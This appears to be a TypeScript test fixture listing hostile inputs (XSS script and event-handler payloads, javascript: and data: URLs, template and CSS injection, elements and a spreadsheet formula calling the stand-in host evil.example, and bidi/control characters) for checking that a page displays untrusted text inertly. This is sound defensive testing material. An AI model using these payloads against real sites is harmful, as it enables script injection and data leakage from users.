/** Where what runs all the same reports itself: a function of the page that the flows put there. */
const RUN = 'globalThis.ran?.';

/** The host that no page may ask for anything. */
export const FOREIGN_HOST = 'evil.example';

const SCRIPTS = [
  `<script>${RUN}(1)</script>`,
  `"><script src=https://${FOREIGN_HOST}/2.js></script>`,
  `</title></style></textarea><script>${RUN}(3)</script>`,
  `<img src=x onerror=${RUN}(4)>`,
  `'"><svg onload=${RUN}(5)>`,
  `<svg><script>${RUN}(6)</script></svg>`,
  `<details open ontoggle=${RUN}(7)>`,
  `<input autofocus onfocus=${RUN}(8)>`,
  `<video><source onerror=${RUN}(9)></video>`,
  `<iframe srcdoc="<script>parent.ran(10)</script>"></iframe>`,
  `<math><mtext></mtext><mglyph><style><img src=x onerror=${RUN}(11)>`,
  `<x onpointerenter=${RUN}(12) style="position:fixed;inset:0">`,
  `" onfocus="${RUN}(13)" autofocus x="`,
  `\u003cimg src=x onerror=${RUN}(14)\u003e`,
  `&lt;img src=x onerror=${RUN}(15)&gt;`,
  `{{constructor.constructor('${RUN}(16)')()}}`,
  `\${${RUN}(17)}`,
  `'-${RUN}(18)-'`,
] as const;

const ADDRESSES = [
  `javascript:${RUN}(20)`,
  ` java\tscript:${RUN}(21)`,
  `javascript://%0a${RUN}(22)`,
  `data:text/html,<script>opener.ran(23)</script>`,
  `//${FOREIGN_HOST}/24.png`,
  `https://${FOREIGN_HOST}/25.png`,
  `https://user:word@${FOREIGN_HOST}/"onload=${RUN}(26)`,
] as const;

const ELEMENTS = [
  `<img src=https://${FOREIGN_HOST}/30.png>`,
  `<link rel=stylesheet href=https://${FOREIGN_HOST}/31.css>`,
  `<meta http-equiv=refresh content="0;url=https://${FOREIGN_HOST}/32">`,
  `<base href=https://${FOREIGN_HOST}/>`,
  `<object data=https://${FOREIGN_HOST}/33></object><embed src=https://${FOREIGN_HOST}/34>`,
  `<form action=https://${FOREIGN_HOST}/35><button>Go on</button></form>`,
  `<style>@import "https://${FOREIGN_HOST}/36.css"; body { display: none }</style>`,
] as const;

const STYLES = [
  `url(https://${FOREIGN_HOST}/40.png)`,
  `red;background:url(https://${FOREIGN_HOST}/41.png)`,
  `}body{background:url(https://${FOREIGN_HOST}/42.png)}`,
  `1px);position:fixed;inset:0;z-index:9999;(`,
] as const;

const LETTERS = [
  '\u202egnirts desrever\u202c',
  '\u2066\u202e\u2067unclosed',
  '\u0000\u0007\u001b[31mred',
  '\ud800\udfff\ufffe',
  'e\u0301\u0302\u0303\u0304'.repeat(40),
  '\u200b\u200d\ufeff',
  'W'.repeat(3000),
  'word '.repeat(800),
  '🕊️🏳️‍🌈'.repeat(60),
  '=HYPERLINK("https://evil.example/50","x")',
  '__proto__',
  'constructor',
  ' ',
] as const;

/** Texts that would run, ask another host, cover the page or turn its words around, were they not shown as text. */
export const HOSTILE_TEXTS: readonly string[] = [
  ...SCRIPTS,
  ...ADDRESSES,
  ...ELEMENTS,
  ...STYLES,
  ...LETTERS,
];
